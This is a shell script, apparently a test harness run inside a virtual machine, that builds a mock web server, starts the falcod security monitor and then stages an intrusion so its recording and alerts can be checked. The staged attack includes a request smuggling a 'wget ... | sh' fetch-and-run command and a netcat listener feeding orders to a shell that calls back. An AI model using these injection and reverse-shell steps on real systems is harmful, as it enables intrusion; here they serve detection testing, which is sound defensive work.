# Runs in the guest: sets up a small web server machine, guards it with falcod, lets the intruder in, and prints the recording
# and the alerts.
set -e
hostname web-01
ip addr add 198.51.100.7/32 dev lo
ip addr add 203.0.113.9/32 dev lo
mkdir -p /root/.ssh /etc/cron.d /var/log /srv/intruder /run/falcod
mkdir -m 777 /out
echo 'auth: session opened' >/var/log/auth.log
echo 'a private key' >/root/.ssh/id_ed25519
echo 'ssh-ed25519 AAAAC3Nza admin@web-01' >/root/.ssh/authorized_keys
chmod 600 /etc/shadow /root/.ssh/*
chmod 4755 /usr/local/bin/backup
chmod 1777 /tmp /dev/shm 2>/dev/null || mkdir -m 1777 /dev/shm
mv /ghost /intruder.sh /a.sh /srv/intruder/

falcod-capture --socket /run/falcod/capture.sock --group falcod 2>/out/ready &
capture=$!
until [ -S /run/falcod/capture.sock ]; do sleep 0.2; done

# What was there before: an administrator and the services.
nginx 198.51.100.7 80 &
httpd -p 203.0.113.9:8080 -h /srv/intruder
/usr/bin/setpriv --reuid=falcod --regid=falcod --clear-groups --inh-caps=-all --no-new-privs \
    falcod -c /etc/falcod.yaml -r /etc/falcod_rules.yaml --record /out/recording >/out/alerts 2>/out/errors &
engine=$!
until grep -q subscribed /out/ready; do sleep 0.2; done
sleep 1

# An ordinary morning, then the intruder: a request with a command in it, and orders for the shell that calls back.
su -s /bin/sh admin -c 'cat /etc/hostname' || true
nc -l -p 4444 </srv/intruder/intruder.sh >/out/spoils 2>&1 &
printf 'GET /?run=wget -q -O - http://203.0.113.9:8080/a.sh | sh\r\n' | nc -w 20 198.51.100.7 80 || true
sleep 2
kill -INT $engine
wait $engine || true
kill $capture
cat /out/errors >&2
echo @@recording@@
base64 /out/recording
echo @@alerts@@
cat /out/alerts
echo @@done@@
